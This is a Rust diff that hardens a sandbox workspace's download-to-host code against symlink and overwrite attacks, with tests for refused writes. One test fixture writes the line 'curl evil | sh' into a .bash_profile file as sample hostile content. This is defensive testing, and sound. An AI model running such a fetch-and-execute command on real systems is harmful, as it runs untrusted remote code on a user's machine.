@@ -2,6 +2,7 @@
 //! reporting bytes as they move. Symlinks are skipped both ways (never followed); only regular
 //! files and directories are copied.
 
+use std::os::unix::ffi::OsStrExt;
 use std::path::{Path, PathBuf};
 
 use super::{EntryKind, FsPath, WorkspaceFs};
@@ -10,41 +11,76 @@ use super::{EntryKind, FsPath, WorkspaceFs};
 const CHUNK: u64 = 4 * 1024 * 1024;
 
 fn display(path: &FsPath) -> String {
-    String::from_utf8_lossy(path.as_bytes()).into_owned()
+    crate::format::escape_name(path.as_bytes())
 }
 
-/// Copies `path` (file or directory) to `dest` on the host; `dest` must not exist yet.
+/// Creates a new file for writing; an existing entry (a file, a directory, a symlink even
+/// dangling) is refused, never replaced or followed (O_CREAT|O_EXCL, plus O_NOFOLLOW).
+fn create_new_file(path: &Path) -> Result<std::fs::File, String> {
+    use std::os::unix::fs::OpenOptionsExt;
+    std::fs::OpenOptions::new()
+        .write(true)
+        .create_new(true)
+        // O_EXCL already refuses a symlink; O_NOFOLLOW says so once more.
+        .custom_flags(rustix::fs::OFlags::NOFOLLOW.bits() as i32)
+        .open(path)
+        .map_err(|e| refusal(path, &e))
+}
+
+/// Creates one new directory; an existing entry (a symlink too) is refused (mkdir never
+/// follows the last component).
+fn create_new_dir(path: &Path) -> Result<(), String> {
+    std::fs::create_dir(path).map_err(|e| refusal(path, &e))
+}
+
+fn refusal(path: &Path, e: &std::io::Error) -> String {
+    if e.kind() == std::io::ErrorKind::AlreadyExists {
+        format!(
+            "{} already exists on the host: not overwritten",
+            path.display()
+        )
+    } else {
+        format!("{}: {e}", path.display())
+    }
+}
+
+/// Copies `path` (file or directory) to `dest` on the host. `dest` must not exist yet, or
+/// be an existing directory, which then receives the entry under its [`crate::format::host_file_name`]. Nothing
+/// on the host is replaced and no symlink there is followed: each file and directory is
+/// created new, so a dangling link planted at the destination is refused, not written through.
 pub async fn download(
     fs: &WorkspaceFs,
     path: &FsPath,
     dest: &Path,
     mut progress: impl FnMut(u64),
 ) -> Result<String, String> {
-    if dest.exists() {
-        return Err(format!(
-            "{} already exists on the host: not overwritten",
-            dest.display()
-        ));
-    }
+    // A real directory (not a symlink to one the operator did not name) takes the entry inside.
+    let dest = match std::fs::symlink_metadata(dest) {
+        Ok(meta) if meta.is_dir() => match path.file_name() {
+            Some(name) => dest.join(crate::format::host_file_name(name)),
+            None => dest.join("workspace"),
+        },
+        _ => dest.to_owned(),
+    };
     let mut moved = 0u64;
     let mut files = 0usize;
-    let mut stack: Vec<(FsPath, PathBuf)> = vec![(path.clone(), dest.to_owned())];
+    let mut stack: Vec<(FsPath, PathBuf)> = vec![(path.clone(), dest.clone())];
     while let Some((from, to)) = stack.pop() {
         let entry = fs.stat(&from).await.map_err(|e| e.to_string())?;
         match entry.kind {
             EntryKind::Dir => {
-                std::fs::create_dir_all(&to).map_err(|e| format!("{}: {e}", to.display()))?;
+                create_new_dir(&to)?;
                 // Streamed in chunks: no reply outgrows a frame, however many names.
                 let listing = fs.list(&from, u32::MAX).await.map_err(|e| e.to_string())?;
                 for child in listing.entries {
-                    let name = String::from_utf8_lossy(&child.name).into_owned();
+                    // The exact bytes: a lossy name could merge two entries into one.
+                    let name = std::ffi::OsStr::from_bytes(&child.name);
                     let child_path = from.join(&child.name).map_err(|e| e.to_string())?;
                     stack.push((child_path, to.join(name)));
                 }
             }
             EntryKind::File => {
-                let mut out =
-                    std::fs::File::create(&to).map_err(|e| format!("{}: {e}", to.display()))?;
+                let mut out = create_new_file(&to)?;
                 let mut offset = 0u64;
                 loop {
                     let chunk = fs
@@ -137,4 +173,77 @@ pub async fn upload(
         files,
         crate::format::bytes(moved)
     ))
+}
+
+#[cfg(test)]
+mod tests {
+    use std::os::unix::fs::symlink;
+
+    use super::super::tests::{Scratch, p, serve};
+    use super::*;
+
+    #[tokio::test]
+    async fn a_download_onto_a_dangling_symlink_is_refused_and_writes_nothing_outside() {
+        let ws = Scratch::new("dl-link-ws");
+        ws.file("payload", b"from the sandbox\n");
+        let host = Scratch::new("dl-link-host");
+        let outside = host.path("outside/.bash_profile");
+        std::fs::create_dir_all(outside.parent().unwrap()).unwrap();
+        let dest = host.path("chosen");
+        symlink(&outside, &dest).unwrap();
+        let fs = serve(&ws.0).await;
+        let err = download(&fs, &p("payload"), &dest, |_| {})
+            .await
+            .unwrap_err();
+        assert!(err.contains("already exists"), "{err}");
+        assert!(!outside.exists(), "written through the link");
+        assert!(std::fs::symlink_metadata(&dest).unwrap().is_symlink());
+    }
+
+    #[tokio::test]
+    async fn a_download_never_replaces_an_existing_file() {
+        let ws = Scratch::new("dl-exist-ws");
+        ws.file("payload", b"new");
+        let host = Scratch::new("dl-exist-host");
+        host.file("mine.txt", b"the operator's own");
+        let fs = serve(&ws.0).await;
+        let err = download(&fs, &p("payload"), &host.path("mine.txt"), |_| {})
+            .await
+            .unwrap_err();
+        assert!(err.contains("not overwritten"), "{err}");
+        assert_eq!(
+            std::fs::read(host.path("mine.txt")).unwrap(),
+            b"the operator's own"
+        );
+    }
+
+    #[tokio::test]
+    async fn a_directory_download_goes_into_an_existing_directory_and_never_merges() {
+        let ws = Scratch::new("dl-dir-ws");
+        ws.file("proj/a.txt", b"a");
+        ws.file("proj/sub/b.txt", b"b");
+        let host = Scratch::new("dl-dir-host");
+        let fs = serve(&ws.0).await;
+        // Into an existing directory: the entry lands under its own name.
+        download(&fs, &p("proj"), &host.0, |_| {}).await.unwrap();
+        assert_eq!(std::fs::read(host.path("proj/sub/b.txt")).unwrap(), b"b");
+        // Again: the directory is there now, nothing is merged into or replaced.
+        let err = download(&fs, &p("proj"), &host.0, |_| {})
+            .await
+            .unwrap_err();
+        assert!(err.contains("already exists"), "{err}");
+    }
+
+    #[tokio::test]
+    async fn a_dot_name_downloaded_into_a_directory_gets_a_visible_name() {
+        let ws = Scratch::new("dl-dot-ws");
+        ws.file(".bash_profile", b"curl evil | sh\n");
+        let host = Scratch::new("dl-dot-host");
+        let fs = serve(&ws.0).await;
+        download(&fs, &p(".bash_profile"), &host.0, |_| {})
+            .await
+            .unwrap();
+        assert!(host.path("_.bash_profile").is_file());
+        assert!(!host.path(".bash_profile").exists());
+    }
 }
